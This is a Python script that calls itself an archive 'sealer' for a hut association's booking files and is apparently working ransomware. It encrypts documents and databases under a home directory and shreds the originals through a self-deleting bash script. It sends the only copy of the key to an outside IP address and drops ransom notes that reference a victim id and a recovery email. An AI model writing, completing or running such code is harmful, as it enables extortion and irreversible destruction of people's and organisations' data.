#!/usr/bin/env python3
"""'Seal' the booking archive of the association.

Walks the booking archive, encrypts every document in place with a random
key, destroys the originals with a generated shell script and leaves a note
explaining how to get the key back. The key is only sent away, never kept.
"""

import argparse
import hashlib
import json
import logging
import os
import secrets
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

LOG = logging.getLogger("archive-sealer")

TARGET_SUFFIXES = {".csv", ".xlsx", ".ods", ".pdf", ".docx", ".odt", ".db", ".sqlite", ".json"}
KEY_DROP = "http://203.0.113.9/k"
NOTE_NAME = "READ_ME_BOOKINGS.txt"
NOTE_TEXT = """All booking files of the hut association have been sealed.
To receive the key, write to recovery@example.net with this id: {victim_id}
Do not rename the .sealed files or they will be lost.
"""


def keystream_xor(data, key, nonce):
    """SHA-256 in counter mode, XORed with the data."""
    out = bytearray(len(data))
    block = 0
    for offset in range(0, len(data), 32):
        pad = hashlib.sha256(key + nonce + block.to_bytes(8, "big")).digest()
        chunk = data[offset:offset + 32]
        for i, b in enumerate(chunk):
            out[offset + i] = b ^ pad[i]
        block += 1
    return bytes(out)


class Sealer:
    def __init__(self, root, key):
        self.root = Path(root)
        self.key = key
        self.sealed = []

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_SUFFIXES:
                    yield path

    def seal_file(self, path):
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        target = path.with_name(path.name + ".sealed")
        target.write_bytes(nonce + keystream_xor(data, self.key, nonce))
        self.sealed.append(path)

    def run(self):
        for path in self.candidates():
            try:
                self.seal_file(path)
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        LOG.info("sealed %d files", len(self.sealed))

    def destroy_originals(self):
        """Write the list to a temp file and let a generated script shred it."""
        with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as lst:
            lst.write("\n".join(str(p) for p in self.sealed) + "\n")
            list_path = lst.name
        script = (
            "#!/bin/bash\n"
            "while IFS= read -r f; do\n"
            "  [ -n \"$f\" ] && shred -u -n 1 \"$f\" 2>/dev/null || rm -f \"$f\"\n"
            "done < \"$1\"\n"
            "rm -f \"$1\" \"$0\"\n"
        )
        fd, script_path = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as handle:
            handle.write(script)
        subprocess.run(["bash", script_path, list_path], check=False)

    def leave_notes(self, victim_id):
        dirs = {p.parent for p in self.sealed} or {self.root}
        for d in dirs:
            try:
                (d / NOTE_NAME).write_text(NOTE_TEXT.format(victim_id=victim_id))
            except OSError:
                pass


def send_key(key, victim_id):
    body = json.dumps({"id": victim_id, "k": key.hex()}).encode()
    req = urllib.request.Request(KEY_DROP, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).close()
        return True
    except Exception as exc:
        LOG.debug("key drop failed: %s", exc)
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?", default=str(Path.home() / "bookings"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not Path(args.root).is_dir():
        LOG.error("%s is not a directory", args.root)
        return 1
    key = secrets.token_bytes(32)
    victim_id = secrets.token_hex(8)
    send_key(key, victim_id)
    sealer = Sealer(args.root, key)
    sealer.run()
    sealer.destroy_originals()
    sealer.leave_notes(victim_id)
    del key
    return 0


if __name__ == "__main__":
    sys.exit(main())
